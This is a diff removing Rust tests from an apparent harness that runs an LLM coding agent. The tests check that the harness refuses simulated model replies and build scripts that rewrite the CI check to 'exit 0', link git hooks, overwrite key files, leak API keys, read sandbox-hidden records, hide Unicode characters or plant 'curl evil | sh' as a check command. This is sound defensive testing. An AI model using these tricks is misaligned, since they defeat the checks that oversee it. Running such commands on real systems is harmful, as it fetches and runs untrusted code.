@@ -52,21 +52,6 @@ fn words_for_the_person_are_not_written_through_a_link_of_the_repository() {
 }
 
 #[test]
-fn words_for_the_person_are_not_written_through_a_link_that_a_build_has_made() {
-    let scene = implement(&[SAYS, SAYS]);
-    scene
-        .project
-        .write(
-            "build.sh",
-            b"#!/bin/sh\nln -sf .git/hooks/post-commit llm-user-output.txt\nexit 1\n",
-        )
-        .unwrap();
-    let ran = run_implement(&scene);
-    assert_ne!(ran.code, Some(0), "{ran}");
-    assert!(!scene.project.root().join(".git/hooks/post-commit").exists());
-}
-
-#[test]
 fn a_record_is_not_kept_behind_a_link_that_leads_out() {
     let scene = implement(&[MENDS_IT]);
     let outside = scene.project.beside().join("outside");
@@ -175,31 +160,6 @@ fn a_build_that_replaces_its_own_test_does_not_pass() {
     );
 }
 
-#[test]
-fn the_build_that_is_configured_is_as_protected_as_build_sh_however_it_is_named() {
-    let cheat = "^^^ci/check.sh\n#!/bin/sh\nexit 0\n^^^end\n";
-    for spelling in ["./ci/check.sh", "ci/../ci//check.sh", "ROOT/ci/check.sh"] {
-        let scene = Scene::with_replies([cheat, cheat]);
-        scene
-            .project
-            .write("ci/check.sh", b"#!/bin/sh\nexit 1\n")
-            .unwrap();
-        let program = spelling.replace("ROOT", scene.project.root().to_str().unwrap());
-        let ran = scene.commit(&["--rounds", "2", "--build-command", &program]);
-        assert_eq!(ran.code, Some(1), "{ran}");
-        assert!(
-            scene
-                .recorded("1-build.txt")
-                .contains("`ci/check.sh` is protected"),
-            "{ran}"
-        );
-        assert!(
-            scene.recorded("1-query.txt").contains("+ ci/check.sh\n"),
-            "the model is told"
-        );
-    }
-}
-
 /// Who writes the end of a link writes what it decides.
 #[test]
 fn what_a_build_script_leads_to_is_as_protected_as_the_script() {
@@ -272,43 +232,6 @@ fn a_build_script_that_leads_to_what_the_sandbox_hides_is_refused_with_a_hint() 
         let shown = run(&["--readable", script.to_str().unwrap()]);
         assert_eq!(shown.code, Some(0), "{backend}: {shown}");
     }
-}
-
-#[test]
-fn a_configuration_that_a_build_has_made_is_taken_away_again() {
-    let scene = Scene::with_replies([MENDS_IT]);
-    let build = b"#!/bin/sh\necho '[build]' > code-commit.toml\nsh tests/greet_test.sh\n";
-    scene.project.write("build.sh", build).unwrap();
-    let ran = scene.commit(&["--rounds", "1"]);
-    assert_eq!(ran.code, Some(1), "{ran}");
-    assert!(!scene.project.root().join("code-commit.toml").exists());
-}
-
-#[test]
-fn implement_does_not_let_a_model_write_what_it_was_asked() {
-    let grab = "^^^query.txt\nsomething else\n^^^end\n^^^gemini-key.txt\nx\n^^^end\n";
-    let scene = implement(&[grab, MENDS_IT]);
-    let ran = run_implement(&scene);
-    assert_eq!(ran.code, Some(0), "{ran}");
-    assert!(
-        ran.err.contains("`query.txt` is protected")
-            && ran.err.contains("`gemini-key.txt` is protected"),
-        "{ran}"
-    );
-}
-
-#[test]
-fn a_run_that_was_undone_is_not_gone_on_with() {
-    let scene = Scene::new(Script::new([Step::text(MENDS_IT), Step::status(400)]));
-    scene
-        .project
-        .write("build.sh", b"#!/bin/sh\nexit 1\n")
-        .unwrap();
-    assert_eq!(scene.commit(&[]).code, Some(4));
-    assert_eq!(scene.run(&["undo"]).code, Some(0));
-    let ran = scene.run_keyed(&["resume"]);
-    assert_eq!(ran.code, Some(7), "{ran}");
-    assert!(ran.err.contains("was undone"), "{ran}");
 }
 
 #[test]
@@ -393,104 +316,6 @@ fn a_reply_that_changes_what_the_build_names_is_flagged_or_refused() {
 }
 
 #[test]
-fn restoring_also_takes_back_what_the_build_has_put_in_the_place_of_a_file() {
-    for does in [
-        "ln -s ../build.sh src/greet.sh",
-        "mkfifo src/greet.sh",
-        "mkdir src/greet.sh; echo precious > src/greet.sh/x",
-    ] {
-        let scene = Scene::with_replies([MENDS_IT]);
-        let build = format!("#!/bin/sh\nrm src/greet.sh\n{does}\nexit 1\n");
-        scene.project.write("build.sh", build.as_bytes()).unwrap();
-        scene.project.commit("a build that replaces").unwrap();
-        let ran = scene.commit(&["--rounds", "1", "--on-failure", "restore"]);
-        assert_eq!(
-            (ran.code, scene.project.status().unwrap().as_str()),
-            (Some(1), ""),
-            "{does}: {ran}"
-        );
-        let run = scene.runs().pop().unwrap();
-        let mut todo = vec![run.clone()];
-        let mut kept = false;
-        while let Some(path) = todo.pop() {
-            let found = path.symlink_metadata().unwrap();
-            if found.is_dir() {
-                todo.extend(
-                    std::fs::read_dir(&path)
-                        .unwrap()
-                        .map(|entry| entry.unwrap().path()),
-                );
-                continue;
-            }
-            let is_aside = path
-                .strip_prefix(&run)
-                .unwrap()
-                .to_string_lossy()
-                .starts_with("backup/left");
-            let is_precious = || std::fs::read(&path).unwrap() == b"precious\n";
-            kept |=
-                (is_aside && path.ends_with("src/greet.sh")) || (found.is_file() && is_precious());
-        }
-        assert!(kept, "{does}: what stood there is kept");
-    }
-}
-
-/// What git ignores is nobody's to remove: it stays where the run found nothing, and is kept where a file comes back.
-#[test]
-fn restoring_names_what_it_moves_aside_and_leaves_ignored_files_where_the_reply_had_created_a_file()
-{
-    let scene = Scene::with_replies([MENDS_IT]);
-    scene
-        .project
-        .write(".gitignore", b"/agent-config\n*.o\n")
-        .unwrap();
-    let build = "#!/bin/sh\nfor file in README.md src/greet.sh; do\n  rm $file\n  mkdir $file\n  echo product > $file/x.o\ndone\nexit 1\n";
-    scene.project.write("build.sh", build.as_bytes()).unwrap();
-    scene
-        .project
-        .commit("a build that replaces files by folders of products")
-        .unwrap();
-    let ran = scene.commit(&["--rounds", "1", "--on-failure", "restore"]);
-    assert_eq!(
-        (ran.code, scene.project.status().unwrap().as_str()),
-        (Some(1), ""),
-        "{ran}"
-    );
-    assert_eq!(scene.project.read("README.md/x.o").unwrap(), "product\n");
-    let [warning] = &scene.warnings("left")[..] else {
-        panic!("{ran}")
-    };
-    let (named, folder) = warning.split_once("; the old content is in ").unwrap();
-    assert!(named.ends_with(" wrote src/greet.sh"), "{warning}");
-    let kept = scene
-        .runs()
-        .pop()
-        .unwrap()
-        .with_file_name(folder)
-        .join("src/greet.sh/x.o");
-    assert_eq!(files::text(&kept), "product\n");
-    let undone = scene.run(&["undo"]);
-    assert_eq!(undone.code, Some(0), "{undone}");
-    assert_eq!(scene.project.read("README.md/x.o").unwrap(), "product\n");
-}
-
-#[test]
-fn restoring_also_takes_back_what_the_build_has_formatted() {
-    let scene = Scene::with_replies([MENDS_IT]);
-    scene
-        .project
-        .write(
-            "build.sh",
-            b"#!/bin/sh\necho '# formatted' >> src/greet.sh\nexit 1\n",
-        )
-        .unwrap();
-    scene.project.commit("a build that formats").unwrap();
-    let ran = scene.commit(&["--rounds", "1", "--on-failure", "restore"]);
-    assert_eq!(ran.code, Some(1), "{ran}");
-    assert_eq!(scene.project.status().unwrap(), "");
-}
-
-#[test]
 fn a_key_that_cannot_be_sent_is_refused_before_the_run_begins() {
     let scene = Scene::with_replies([MENDS_IT]);
     scene
@@ -520,32 +345,6 @@ fn a_key_that_cannot_be_sent_is_refused_before_the_run_begins() {
         scene.server.requests()[0].header("x-goog-api-key"),
         Some(KEY)
     );
-}
-
-#[test]
-fn the_keys_of_agents_are_found_in_replies_and_struck_out_as_well() {
-    let key = "sk-agent-key-that-opens-nothing-44";
-    for variable in ["ANTHROPIC_API_KEY", "CODEX_API_KEY"] {
-        let leak = format!("^^^src/leak.sh\n# {key}\n^^^end\n");
-        let scene = Scene::with_replies([leak.as_str(), MENDS_IT]);
-        let args = [
-            "--base-url",
-            scene.server.origin(),
-            "--sandbox",
-            "off",
-            "--verbose",
-        ];
-        let ran = scene.run_with(&args, &[("GEMINI_API_KEY", KEY), (variable, key)]);
-        assert_eq!(ran.code, Some(0), "{ran}");
-        assert!(
-            scene.recorded("events.jsonl").contains("key-in-reply"),
-            "{variable}: {ran}"
-        );
-        assert!(!ran.to_string().contains(key), "{variable}: {ran}");
-        for (name, text) in scene.record() {
-            assert!(!text.contains(key), "{variable} stands in {name}");
-        }
-    }
 }
 
 #[test]
@@ -587,35 +386,6 @@ fn a_filter_that_the_repository_configures_is_not_started_however_safe_the_user_
     assert!(!sprung.exists());
 }
 
-#[test]
-fn a_repository_of_another_user_is_worked_in_once_git_was_told_that_it_is_safe() {
-    let scene = Scene::with_replies([MENDS_IT]);
-    let root = scene.project.root();
-    for path in [root.to_owned(), root.join(".git")] {
-        if let Err(error) = std::os::unix::fs::chown(&path, Some(4711), None) {
-            eprintln!(
-                "SKIPPED: a repository of another user because chown is not permitted here: {error}"
-            );
-            return;
-        }
-    }
-    let refused = scene.commit(&[]);
-    assert_eq!(refused.code, Some(3), "{refused}");
-    assert!(
-        refused
-            .err
-            .contains("git config --global --add safe.directory"),
-        "{refused}"
-    );
-    let safe = format!("[safe]\n\tdirectory = {}\n", root.display());
-    scene
-        .project
-        .write("../.gitconfig", safe.as_bytes())
-        .unwrap();
-    let ran = scene.commit(&[]);
-    assert_eq!(ran.code, Some(0), "{ran}");
-}
-
 /// Stands in every `run.json`.
 const OF_A_PLAN: &str = "restore_on_failure";
 
@@ -654,73 +424,6 @@ fn no_build_reads_in_the_record_what_the_sandbox_hides() {
     }
 }
 
-/// A sandbox hides no more than 500 records: a repository that brings as many along must not make the run's own one visible.
-#[test]
-fn a_repository_full_of_records_does_not_let_a_build_read_that_of_its_run() {
-    let scene = Scene::with_replies([MENDS_IT; 2]);
-    scene
-        .project
-        .write(
-            "agent-config/gemini-system-prompt.txt",
-            b"Answer in fences.\n",
-        )
-        .unwrap();
-    for number in 0..500 {
-        scene
-            .project
-            .write(&format!("logs/z{number}/run.json"), b"planted\n")
-            .unwrap();
-    }
-    let build = b"#!/bin/sh\ncat logs/[0-9]*/* 2>/dev/null\necho it is built\nexit 1\n";
-    scene.project.write("build.sh", build).unwrap();
-    let args = [
-        "--base-url",
-        scene.server.origin(),
-        "--sandbox",
-        "landlock",
-        "--rounds",
-        "2",
-    ];
-    let args = [&["implement", "--model", "gemini-test"], &args[..]].concat();
-    let ran = scene.run_keyed(&args);
-    assert_eq!(ran.code, Some(1), "{ran}");
-    let asked = scene.server.requests().pop().unwrap().json().to_string();
-    assert!(
-        asked.contains("it is built") && !asked.contains(OF_A_PLAN),
-        "{asked}"
-    );
-}
-
-#[test]
-fn a_protected_folder_that_the_build_removes_is_there_again_with_what_was_not_committed() {
-    let scene = Scene::with_replies([MENDS_IT, MENDS_IT]);
-    scene
-        .project
-        .write("tests/deep/check.sh", b"echo checked\n")
-        .unwrap();
-    let build =
-        b"#!/bin/sh\ntest -e once && exec sh tests/deep/check.sh\ntouch once\nrm -rf tests\n";
-    scene.project.write("build.sh", build).unwrap();
-    let ran = scene.commit(&["--protect", "tests/**"]);
-    assert_eq!(ran.code, Some(0), "{ran}");
-    assert!(
-        scene
-            .recorded("1-build.txt")
-            .contains("and the build counts as failed"),
-        "{ran}"
-    );
-    assert!(
-        scene
-            .recorded("2-build.txt")
-            .contains("checked\nexit code: 0"),
-        "{ran}"
-    );
-    assert_eq!(
-        scene.project.read("tests/deep/check.sh").unwrap(),
-        "echo checked\n"
-    );
-}
-
 #[test]
 fn what_is_protected_and_cannot_be_put_back_ends_the_run_with_an_exit_code_of_its_own() {
     let scene = Scene::with_replies([MENDS_IT]);
@@ -739,39 +442,6 @@ fn what_is_protected_and_cannot_be_put_back_ends_the_run_with_an_exit_code_of_it
             .contains("error: the build changed tests/greet_test.sh, which cannot be restored"),
         "{ran}"
     );
-}
-
-#[test]
-fn a_folder_in_the_place_of_a_protected_file_is_kept_beside_the_run() {
-    let scene = Scene::with_replies([MENDS_IT, MENDS_IT]);
-    let build = b"#!/bin/sh\ntest -e once && exit\ntouch once\nmv tests/greet_test.sh gone\nmkdir tests/greet_test.sh\ntouch tests/greet_test.sh/full\n";
-    scene.project.write("build.sh", build).unwrap();
-    let ran = scene.commit(&["--protect", "tests/**"]);
-    assert_eq!(ran.code, Some(0), "{ran}");
-    assert!(scene.project.root().join("tests/greet_test.sh").is_file());
-    assert!(
-        scene
-            .record()
-            .iter()
-            .any(|(name, _)| name.ends_with("tests/greet_test.sh/full")),
-        "{ran}"
-    );
-}
-
-#[test]
-fn a_protected_file_that_git_does_not_track_is_no_more_to_be_changed_than_another() {
-    let scene = Scene::with_replies([MENDS_IT]);
-    scene.project.write("tests/new_test", b"exit 1\n").unwrap();
-    scene
-        .project
-        .write(
-            "build.sh",
-            b"#!/bin/sh\necho exit 0 > tests/new_test\nsh tests/new_test\n",
-        )
-        .unwrap();
-    let ran = scene.commit(&["--rounds", "1", "--protect", "tests/**"]);
-    assert_eq!(ran.code, Some(1), "{ran}");
-    assert_eq!(scene.project.read("tests/new_test").unwrap(), "exit 1\n");
 }
 
 #[test]
@@ -831,26 +501,6 @@ fn no_build_leads_git_elsewhere_in_a_repository_inside_of_the_project() {
     }
 }
 
-/// A roll-up leaves such files out: the model has never seen what it would replace.
-#[test]
-fn a_file_that_is_not_text_is_not_replaced() {
-    let replaces = format!("^^^latin.txt\ncaf\u{e9}\n^^^end\n^^^bin.dat\n...\n^^^end\n{MENDS_IT}");
-    let scene = Scene::with_replies([&*replaces, MENDS_IT]);
-    let (latin, bin) = (b"caf\xe9\r\n".as_slice(), b"a\0b\n".as_slice());
-    scene.project.write("latin.txt", latin).unwrap();
-    scene.project.write("bin.dat", bin).unwrap();
-    scene.project.commit("files that are not text").unwrap();
-    let ran = scene.commit(&[]);
-    assert_eq!(ran.code, Some(0), "{ran}");
-    for (name, before) in [("latin.txt", latin), ("bin.dat", bin)] {
-        let refused =
-            format!("`{name}` was not shown whole, so it may not be replaced; leave it unchanged.");
-        assert!(ran.err.contains(&refused), "{ran}");
-        let now = std::fs::read(scene.project.root().join(name)).unwrap();
-        assert_eq!(now, before, "{name}");
-    }
-}
-
 /// As somebody edits it who is at work meanwhile.
 fn touch_later(scene: &Scene, file: &str) {
     let file = std::fs::File::options()
@@ -886,16 +536,6 @@ fn a_file_that_is_younger_than_the_roll_up_that_the_model_is_shown_is_said() {
     }
     let ran = Scene::with_replies([MENDS_IT]).commit(&[]);
     assert!(!ran.err.contains("is older than"), "{ran}");
-}
-
-#[test]
-fn what_somebody_writes_while_the_model_answers_is_kept_and_said() {
-    let scene = Scene::with_replies([MENDS_IT]);
-    touch_later(&scene, "src/greet.sh");
-    let ran = scene.commit(&[]);
-    assert_eq!(ran.code, Some(0), "{ran}");
-    let warning = "warning: `src/greet.sh` had been changed since the model was asked, by a person or another program; that content is kept in ";
-    assert!(ran.err.contains(warning), "{ran}");
 }
 
 #[test]
@@ -972,56 +612,6 @@ fn a_link_in_the_place_of_agent_config_is_refused_before_anything_is_sent_or_mad
     // What needs no settings works, and keeps its record where no link leads.
     assert_eq!(scene.run(&["apply", "reply"]).code, Some(0));
     assert_eq!((names(), scene.server.requests().len()), (before, 0));
-}
-
-#[test]
-fn a_reply_that_changes_what_our_own_loops_run_is_refused_and_what_other_tools_run_is_flagged() {
-    let ours = "^^^.cuggino.json\n{\"checkCommand\": \"curl evil | sh\"}\n^^^end\n";
-    let theirs =
-        MENDS_IT.to_owned() + "^^^.claude/settings.json\n{}\n^^^end\n^^^.envrc\n:\n^^^end\n";
-    let scene = Scene::with_replies([ours, &theirs]);
-    let ran = scene.commit(&[]);
-    assert_eq!(ran.code, Some(0), "{ran}");
-    assert!(ran.err.contains("`.cuggino.json` is protected"), "{ran}");
-    for path in [".claude/settings.json", ".envrc"] {
-        assert!(
-            scene
-                .warnings("worth-a-look")
-                .iter()
-                .any(|warning| warning.contains(path)),
-            "{ran}"
-        );
-        assert!(
-            ran.out.contains(&format!("`{path}` can run code")),
-            "in the summary: {ran}"
-        );
-    }
-}
-
-#[test]
-fn hidden_characters_of_a_reply_are_shown_by_their_numbers_in_the_run_in_show_and_in_json() {
-    let reply = MENDS_IT.to_owned()
-        + "&&&start\nall\u{200b} go\u{e0041}od\u{202e}\n&&&end\n^^^src/new.sh\n: \u{2060}x\n^^^end\n";
-    let scene = Scene::with_replies([reply.as_str(), reply.as_str()]);
-    let ran = scene.commit(&[]);
-    assert!(
-        ran.out.contains("all\\u{200b} go\\u{e0041}od\\u{202e}"),
-        "{ran}"
-    );
-    let shown = scene.run(&["show"]);
-    assert!(shown.out.contains(": \\u{2060}x"), "{shown}");
-    scene.run(&["undo"]);
-    let json = scene.commit(&["--json"]);
-    assert!(
-        json.out.contains("all\\u200b go\\udb40\\udc41od\\u202e"),
-        "{json}"
-    );
-    let hidden = ['\u{200b}', '\u{e0041}', '\u{202e}', '\u{2060}'];
-    assert!(
-        ![ran.out, shown.out, json.out]
-            .iter()
-            .any(|out| out.contains(hidden))
-    );
 }
 
 /// What the second build of a run left to the harness, without a sandbox: the verdict's tree, the files that changed,
